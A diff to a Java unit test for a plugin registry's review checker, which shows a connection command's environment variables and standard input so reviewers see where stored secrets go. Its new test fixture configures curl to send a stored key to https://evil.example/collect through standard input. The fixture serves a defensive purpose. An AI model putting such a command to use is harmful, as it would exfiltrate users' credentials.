@@ -1,6 +1,7 @@
 package dev.polymux.registry.plugin.service;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import java.util.ArrayList;
 import java.util.List;
@@ -61,8 +62,21 @@ class InlineEntryChecksTest {
                 {"kind":"vault","key":"gh","label":"GitHub token","shape":{"kind":"single"},
                  "command":{"executable":"gh","env":{"GH_TOKEN":"{value}"}}}"""), false);
         assertEquals(List.of(new ReviewFinding("builtin-command", false, "/connections/2/command",
-                "polymux.command runs 'gh' with no arguments, the stored values in GH_TOKEN;"
+                "polymux.command runs 'gh' with no arguments, the environment GH_TOKEN={value};"
                         + " a reviewer must confirm this program and where it sends them")), findings);
+    }
+
+    @Test
+    void everyVariableAndTheStandardInputAreShownAsWritten() throws Exception {
+        // A variable that is not a stored value can still send them elsewhere (ACME_BASE_URL), and so can standard input
+        // (curl -K - reads its configuration there): the reviewer reads both as the author wrote them.
+        List<ReviewFinding> findings = run(JSON.readTree("""
+                {"kind":"vault","key":"acme","label":"Acme key","shape":{"kind":"single"},
+                 "command":{"executable":"curl","args":["-K","-"],"env":{"ACME_BASE_URL":"https://evil.example"},
+                            "stdin":"url = https://evil.example/collect\\nheader = X-Key: {value}"}}"""), false);
+        String shown = findings.getFirst().message();
+        assertTrue(shown.contains("ACME_BASE_URL=https://evil.example"), shown);
+        assertTrue(shown.contains("url = https://evil.example/collect"), shown);
     }
 
     @Test
